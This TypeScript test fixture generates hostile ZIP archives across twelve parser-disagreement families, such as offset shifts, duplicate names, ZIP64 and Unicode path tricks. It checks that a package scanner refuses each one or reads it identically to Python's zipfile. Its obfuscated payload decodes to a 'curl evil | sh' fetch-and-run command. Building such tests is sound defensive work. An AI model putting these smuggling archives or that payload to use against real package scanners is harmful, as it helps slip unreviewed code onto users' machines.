import { crc32, deflateRawSync } from 'node:zlib';
import { buildRawZip, bytes, concatBytes, unicodePathExtra, zip64Extra, type BuilderEntry } from './zip-builder.ts';

// Hostile archives, one family per way zip readers are known to disagree, many seeded variants
// each. Most try to show our reader a clean pack while another reader (Python's zipfile above
// all) finds `EVIL_SOURCE` instead; the property test checks that every one is either refused or
// read identically by everyone.

export const CLEAN_INIT = 'from .nodes import NODE_CLASS_MAPPINGS\n__all__ = ["NODE_CLASS_MAPPINGS"]\n';
export const CLEAN_NODES = 'class Example:\n    CATEGORY = "example"\n\nNODE_CLASS_MAPPINGS = {"Example": Example}\n';
/** What the attacker wants Python to install instead: code the scanner never saw. */
export const EVIL_SOURCE =
  'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgZXZpbCB8IHNoIik="))\n';

export const HOSTILE_CLASSES = [
  'prefix-bytes',
  'offset-shift',
  'end-record',
  'header-mismatch',
  'duplicate-names',
  'overlap-and-order',
  'gaps-and-trailing',
  'data-descriptor',
  'zip64',
  'unicode-path',
  'name-encoding',
  'entry-data',
] as const;
export type HostileClass = (typeof HOSTILE_CLASSES)[number];

export interface HostileZip {
  family: HostileClass;
  label: string;
  bytes: Uint8Array;
}

/** Small seeded PRNG (mulberry32): the same seed gives the same variants on every run. */
export class Random {
  private state: number;
  constructor(seed: number) {
    this.state = seed >>> 0;
  }
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  }
  int(below: number): number {
    return Math.floor(this.next() * below);
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
  bool(): boolean {
    return this.next() < 0.5;
  }
  bytes(length: number): Uint8Array {
    return Uint8Array.from({ length }, () => this.int(256));
  }
}

/** A small clean pack with a random mix of extra files and compression methods. */
export function cleanEntries(rng: Random): BuilderEntry[] {
  const method = () => (rng.bool() ? 8 : 0) as 0 | 8;
  const entries: BuilderEntry[] = [
    { name: '__init__.py', data: CLEAN_INIT, method: method() },
    { name: 'nodes.py', data: CLEAN_NODES, method: method() },
  ];
  for (let i = rng.int(3); i > 0; i -= 1) {
    entries.push({
      name: `data/file${i}.json`,
      data: JSON.stringify({ i, pad: 'x'.repeat(rng.int(200)) }),
      method: method(),
    });
  }
  return entries;
}

/** The same names, but every Python file carries the payload. */
const evilTwin = (entries: BuilderEntry[]): BuilderEntry[] =>
  entries.map((e) => (e.name.endsWith('.py') ? { ...e, data: EVIL_SOURCE } : e));

interface Sections {
  locals: Uint8Array;
  central: Uint8Array;
  count: number;
}

/** The local-entry and central-directory parts of an archive our builder wrote without a comment. */
function sections(zip: Uint8Array): Sections {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const end = zip.length - 22;
  const size = view.getUint32(end + 12, true);
  const offset = view.getUint32(end + 16, true);
  return {
    locals: zip.subarray(0, offset),
    central: zip.subarray(offset, offset + size),
    count: view.getUint16(end + 10, true),
  };
}

/** Adds `delta` to every local-header offset of a central directory. */
function shiftOffsets(central: Uint8Array, delta: number): Uint8Array {
  const copy = new Uint8Array(central);
  const view = new DataView(copy.buffer);
  for (let at = 0; at + 46 <= copy.length;) {
    view.setUint32(at + 42, (view.getUint32(at + 42, true) + delta) >>> 0, true);
    at += 46 + view.getUint16(at + 28, true) + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
  }
  return copy;
}

function endRecord(fields: { count: number; size: number; offset: number; commentLength?: number }): Uint8Array {
  const out = new Uint8Array(22);
  const view = new DataView(out.buffer);
  view.setUint32(0, 0x06054b50, true);
  view.setUint16(8, fields.count, true);
  view.setUint16(10, fields.count, true);
  view.setUint32(12, fields.size, true);
  view.setUint32(16, fields.offset, true);
  view.setUint16(20, fields.commentLength ?? 0, true);
  return out;
}

/** Where each central directory record starts, for a builder-made archive without a comment. */
function centralRecords(zip: Uint8Array): number[] {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const end = zip.length - 22;
  const found: number[] = [];
  for (let at = view.getUint32(end + 16, true); at < end;) {
    found.push(at);
    at += 46 + view.getUint16(at + 28, true) + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
  }
  return found;
}

const indexOf = (entries: BuilderEntry[], name: string) => entries.findIndex((e) => e.name === name);

type Maker = (rng: Random) => { label: string; bytes: Uint8Array };

const makers: Record<HostileClass, Maker> = {
  'prefix-bytes'(rng) {
    const entries = cleanEntries(rng);
    const kind = rng.pick(['junk', 'shebang', 'hidden-entry'] as const);
    const prefix =
      kind === 'junk'
        ? rng.bytes(1 + rng.int(300))
        : kind === 'shebang'
          ? bytes('#!/usr/bin/env python3\n')
          : sections(buildRawZip([{ name: 'nodes.py', data: EVIL_SOURCE }])).locals;
    const absoluteOffsets = rng.bool();
    return {
      label: `${kind}, ${absoluteOffsets ? 'absolute' : 'relative'} offsets`,
      bytes: buildRawZip(entries, { prefix, absoluteOffsets }),
    };
  },

  // Python's zipfile shifts every offset by (end record position − directory size − directory
  // offset); yauzl and fflate do not. Two directories of equal size: the one the end record's
  // offset names (clean), and the one right before the end record (evil), which only Python reads.
  'offset-shift'(rng) {
    // The clean entries must take at least as many bytes as the evil ones, so the shifted offsets
    // stay positive: pad the clean Python files (stored), deflate the payload.
    const clean = cleanEntries(rng).map((e): BuilderEntry =>
      e.name.endsWith('.py') ? { ...e, method: 0, data: `${String(e.data)}# ${'-'.repeat(150 + rng.int(200))}\n` } : e,
    );
    const evil = evilTwin(clean).map((e): BuilderEntry => (e.name.endsWith('.py') ? { ...e, method: 8 } : e));
    const a = sections(buildRawZip(clean));
    const b = sections(buildRawZip(evil));
    const filler = rng.bytes(rng.int(64));
    const evilLocalsAt = a.locals.length + a.central.length + filler.length;
    const evilCentralAt = evilLocalsAt + b.locals.length;
    const concat = evilCentralAt - a.locals.length;
    const evilCentral = shiftOffsets(b.central, evilLocalsAt - concat);
    const end = endRecord({ count: a.count, size: a.central.length, offset: a.locals.length });
    return {
      label: `two directories, shift ${concat}`,
      bytes: concatBytes(a.locals, a.central, filler, b.locals, evilCentral, end),
    };
  },

  'end-record'(rng) {
    const clean = cleanEntries(rng);
    const kind = rng.pick([
      'second-archive-in-comment',
      'concatenated',
      'comment-length',
      'counts',
      'directory-size',
      'directory-offset',
    ] as const);
    if (kind === 'second-archive-in-comment' || kind === 'concatenated') {
      // Python takes the LAST end signature in the final 64 KiB, whatever its comment length says.
      const evil = buildRawZip(evilTwin(clean));
      const evilSections = sections(evil);
      const first = buildRawZip(clean);
      const firstSections = sections(first);
      const base = first.length;
      const tail = concatBytes(
        evilSections.locals,
        shiftOffsets(evilSections.central, base),
        endRecord({
          count: evilSections.count,
          size: evilSections.central.length,
          offset: base + evilSections.locals.length,
          commentLength: kind === 'concatenated' ? 0 : 1 + rng.int(9),
        }),
      );
      if (kind === 'concatenated') return { label: kind, bytes: concatBytes(first, tail) };
      const head = concatBytes(
        firstSections.locals,
        firstSections.central,
        endRecord({
          count: firstSections.count,
          size: firstSections.central.length,
          offset: firstSections.locals.length,
          commentLength: tail.length,
        }),
      );
      return { label: kind, bytes: concatBytes(head, tail) };
    }
    if (kind === 'comment-length') {
      const comment = rng.bool() ? 'made by git' : '';
      return {
        label: kind,
        bytes: buildRawZip(clean, { comment, end: { commentLength: comment.length + 1 + rng.int(20) } }),
      };
    }
    const count = clean.length;
    if (kind === 'counts') {
      const wrong = rng.bool() ? count - 1 : count + 1;
      return {
        label: `${kind} ${wrong}`,
        bytes: buildRawZip(clean, { end: rng.bool() ? { entries: wrong } : { entriesOnDisk: wrong } }),
      };
    }
    const delta = rng.pick([-46, -1, 1, 30]);
    const zip = buildRawZip(clean);
    const fields = sections(zip);
    return {
      label: `${kind} ${delta}`,
      bytes: buildRawZip(
        clean,
        kind === 'directory-size'
          ? { end: { centralSize: fields.central.length + delta } }
          : { end: { centralOffset: fields.locals.length + delta } },
      ),
    };
  },

  'header-mismatch'(rng) {
    const entries = cleanEntries(rng);
    const target = entries[rng.int(entries.length)]!;
    const field = rng.pick(['name', 'longer-name', 'method', 'utf8-flag', 'crc', 'compressed-size', 'size'] as const);
    if (field === 'name') target.local = { name: target.name.replace(/.$/, (c) => (c === 'x' ? 'y' : 'x')) };
    else if (field === 'longer-name') target.local = { name: `../${target.name}` };
    else if (field === 'method') target.local = { method: target.method === 0 ? 8 : 0 };
    else if (field === 'utf8-flag') target.local = { flags: 0x0800 };
    else if (field === 'crc') target.local = { crc: (crc32(bytes(target.data)) ^ (1 + rng.int(0xffff))) >>> 0 };
    else if (field === 'compressed-size') {
      // The local header claims more data: a reader trusting it swallows the next entry.
      target.local = {
        compressedSize:
          (target.method === 0 ? bytes(target.data).length : deflateRawSync(bytes(target.data)).length) +
          1 +
          rng.int(40),
      };
    } else target.local = { size: bytes(target.data).length + 1 + rng.int(40) };
    return { label: `${field} of ${target.name}`, bytes: buildRawZip(entries) };
  },

  'duplicate-names'(rng) {
    const entries = cleanEntries(rng);
    const kind = rng.pick([
      'exact',
      'case',
      'nfd',
      'dot-segment',
      'double-slash',
      'trailing-dot',
      'folder-and-file',
      'file-as-folder',
    ] as const);
    const twin: Record<typeof kind, BuilderEntry> = {
      exact: { name: 'nodes.py', data: EVIL_SOURCE },
      case: { name: 'Nodes.py', data: EVIL_SOURCE },
      nfd: { name: 'nodes_e\u0301.py', data: EVIL_SOURCE },
      'dot-segment': { name: './nodes.py', data: EVIL_SOURCE },
      'double-slash': { name: 'data//nodes.py', data: EVIL_SOURCE },
      'trailing-dot': { name: 'nodes.py.', data: EVIL_SOURCE },
      'folder-and-file': { name: 'nodes.py/', data: '' },
      'file-as-folder': { name: 'nodes.py/evil.py', data: EVIL_SOURCE },
    };
    if (kind === 'nfd') entries.push({ name: 'nodes_\u00e9.py', data: CLEAN_NODES });
    if (kind === 'double-slash') entries.push({ name: 'data/nodes.py', data: CLEAN_NODES });
    const extra = twin[kind];
    if (rng.bool()) entries.push(extra);
    else entries.unshift(extra);
    return { label: kind, bytes: buildRawZip(entries) };
  },

  'overlap-and-order'(rng) {
    const entries = cleanEntries(rng);
    const kind = rng.pick(['reversed-directory', 'shared-local-header', 'entry-inside-data'] as const);
    if (kind === 'reversed-directory') {
      return {
        label: kind,
        bytes: buildRawZip(entries, { centralOrder: entries.map((_, i) => entries.length - 1 - i) }),
      };
    }
    if (kind === 'shared-local-header') {
      // A second directory record points at an earlier entry's local header under another name.
      entries.push({ name: 'extra.py', data: EVIL_SOURCE });
      const zip = buildRawZip(entries);
      const records = centralRecords(zip);
      const view = new DataView(zip.buffer);
      const shared = view.getUint32(records[indexOf(entries, 'nodes.py')]! + 42, true);
      view.setUint32(records[records.length - 1]! + 42, shared, true);
      return { label: kind, bytes: zip };
    }
    // A stored entry whose data holds a complete local entry; one directory record points into it.
    const hidden = sections(buildRawZip([{ name: 'hidden.py', data: EVIL_SOURCE, method: 0 }])).locals;
    const carrier: BuilderEntry = {
      name: 'assets/blob.bin',
      data: concatBytes(rng.bytes(rng.int(32)), hidden),
      method: 0,
    };
    entries.push(carrier, { name: 'hidden.py', data: EVIL_SOURCE, method: 0 });
    const zip = buildRawZip(entries);
    const records = centralRecords(zip);
    const view = new DataView(zip.buffer);
    const carrierLocal = view.getUint32(records[entries.length - 2]! + 42, true);
    const carrierData =
      carrierLocal + 30 + view.getUint16(carrierLocal + 26, true) + view.getUint16(carrierLocal + 28, true);
    const hiddenAt = carrierData + bytes(carrier.data).length - hidden.length;
    view.setUint32(records[entries.length - 1]! + 42, hiddenAt, true);
    return { label: kind, bytes: zip };
  },

  'gaps-and-trailing'(rng) {
    const entries = cleanEntries(rng);
    const kind = rng.pick([
      'gap-between-entries',
      'hidden-entry-in-gap',
      'gap-before-directory',
      'trailing-bytes',
    ] as const);
    if (kind === 'trailing-bytes')
      return { label: kind, bytes: buildRawZip(entries, { trailing: rng.bytes(1 + rng.int(64)) }) };
    const hidden = sections(buildRawZip([{ name: 'nodes.py', data: EVIL_SOURCE }])).locals;
    const gap = kind === 'gap-between-entries' ? rng.bytes(1 + rng.int(64)) : hidden;
    const after = kind === 'gap-before-directory' ? entries.length - 1 : rng.int(entries.length);
    return { label: `${kind} after entry ${after}`, bytes: buildRawZip(entries, { gapAfter: { [after]: gap } }) };
  },

  'data-descriptor'(rng) {
    const entries = cleanEntries(rng).map((e): BuilderEntry => ({
      ...e,
      method: 8,
      descriptor: rng.pick(['signed', 'unsigned'] as const),
    }));
    const target = entries[rng.int(entries.length)]!;
    const kind = rng.pick([
      'descriptor-crc',
      'descriptor-size',
      'descriptor-compressed-size',
      'flag-without-descriptor',
      'stored-with-descriptor',
      'local-values-disagree',
    ] as const);
    const data = bytes(target.data);
    if (kind === 'descriptor-crc') target.descriptorFields = { crc: (crc32(data) ^ 0x5a5a) >>> 0 };
    else if (kind === 'descriptor-size') target.descriptorFields = { size: data.length + 7 };
    else if (kind === 'descriptor-compressed-size') target.descriptorFields = { compressedSize: 1 + rng.int(5) };
    else if (kind === 'flag-without-descriptor') {
      delete target.descriptor;
      target.flags = 0x0008;
    } else if (kind === 'stored-with-descriptor') target.method = 0;
    else target.local = { crc: crc32(data) >>> 0, size: data.length + 3, compressedSize: 0 };
    return { label: `${kind} (${target.name})`, bytes: buildRawZip(entries) };
  },

  zip64(rng) {
    const entries = cleanEntries(rng);
    const target = entries[rng.int(entries.length)]!;
    const kind = rng.pick(['sizes-in-extra', 'unused-extra', 'end-locator', 'max-count'] as const);
    const data = bytes(target.data);
    const compressed = target.method === 0 ? data : deflateRawSync(data);
    if (kind === 'sizes-in-extra') {
      const lie = rng.bool();
      target.central = { size: 0xffffffff, compressedSize: 0xffffffff };
      target.centralExtra = zip64Extra([data.length + (lie ? 5 : 0), compressed.length]);
    } else if (kind === 'unused-extra') {
      target.centralExtra = zip64Extra([data.length + 100, compressed.length + 100]);
      target.localExtra = zip64Extra([data.length + 100, compressed.length + 100]);
    } else if (kind === 'end-locator') {
      // A ZIP64 end locator hidden in the last directory record's comment, right before the end record.
      const locator = new Uint8Array(20);
      const view = new DataView(locator.buffer);
      view.setUint32(0, 0x07064b50, true);
      view.setUint32(16, 1, true);
      entries[entries.length - 1]!.comment = locator;
    } else {
      return { label: kind, bytes: buildRawZip(entries, { end: { entries: 0xffff, entriesOnDisk: 0xffff } }) };
    }
    return { label: `${kind} (${target.name})`, bytes: buildRawZip(entries) };
  },

  'unicode-path'(rng) {
    const entries = cleanEntries(rng);
    const target = entries[rng.int(entries.length)]!;
    const other = rng.pick(['../evil.py', 'evil.py', `${target.name}x`, 'n\u00f6des.py']);
    const where = rng.pick(['central', 'local', 'both'] as const);
    const field = unicodePathExtra(target.name, other, rng.int(4) === 0 ? 0x12345678 : undefined);
    if (where !== 'local') target.centralExtra = field;
    if (where !== 'central') target.localExtra = field;
    return { label: `${where} says ${other}`, bytes: buildRawZip(entries) };
  },

  'name-encoding'(rng) {
    const entries = cleanEntries(rng);
    const kind = rng.pick(['cp437-name', 'invalid-utf8', 'utf8-without-flag'] as const);
    const raw =
      kind === 'cp437-name'
        ? Uint8Array.of(0x6e, 0x82, 0x64, 0x65, 0x2e, 0x70, 0x79) // "n?de.py" in a legacy code page
        : kind === 'invalid-utf8'
          ? Uint8Array.of(0x6e, 0xc3, 0x28, 0x2e, 0x70, 0x79)
          : bytes('n\u00e9de.py');
    const flags = kind === 'invalid-utf8' ? 0x0800 : 0;
    entries.push({
      name: 'placeholder.py',
      data: EVIL_SOURCE,
      flags,
      local: { name: raw, flags },
      central: { name: raw, flags },
    });
    return { label: kind, bytes: buildRawZip(entries) };
  },

  'entry-data'(rng) {
    const entries = cleanEntries(rng);
    const i = indexOf(entries, 'nodes.py');
    const kind = rng.pick([
      'declared-size-short',
      'garbage-after-stream',
      'stored-size-differs',
      'truncated-stream',
    ] as const);
    const clean = bytes(CLEAN_NODES);
    if (kind === 'declared-size-short') {
      // Python stops at the declared size and checks the CRC of what it read; others read it all.
      const full = concatBytes(clean, bytes(`\n${EVIL_SOURCE}`));
      entries[i] = {
        name: 'nodes.py',
        data: full,
        method: 8,
        local: { size: clean.length, crc: crc32(clean) >>> 0 },
        central: { size: clean.length, crc: crc32(clean) >>> 0 },
      };
    } else if (kind === 'garbage-after-stream') {
      entries[i] = {
        name: 'nodes.py',
        data: clean,
        method: 8,
        compressed: concatBytes(deflateRawSync(clean), rng.bytes(1 + rng.int(30))),
      };
    } else if (kind === 'stored-size-differs') {
      entries[i] = {
        name: 'nodes.py',
        data: clean,
        method: 0,
        local: { size: clean.length - 1 },
        central: { size: clean.length - 1 },
      };
    } else {
      const stream = deflateRawSync(clean);
      entries[i] = {
        name: 'nodes.py',
        data: clean,
        method: 8,
        compressed: stream.subarray(0, stream.length - 1 - rng.int(3)),
      };
    }
    return { label: kind, bytes: buildRawZip(entries) };
  },
};

/** `perClass` seeded variants of every hostile family. */
export function hostileZips(seed: number, perClass: number): HostileZip[] {
  const rng = new Random(seed);
  return HOSTILE_CLASSES.flatMap((family) =>
    Array.from({ length: perClass }, () => ({ family, ...makers[family](rng) })),
  );
}

/** The attack this work started from: yauzl and fflate read a clean pack, Python's zipfile the payload. */
export function offsetShiftAttack(): Uint8Array {
  return makers['offset-shift'](new Random(2026)).bytes;
}
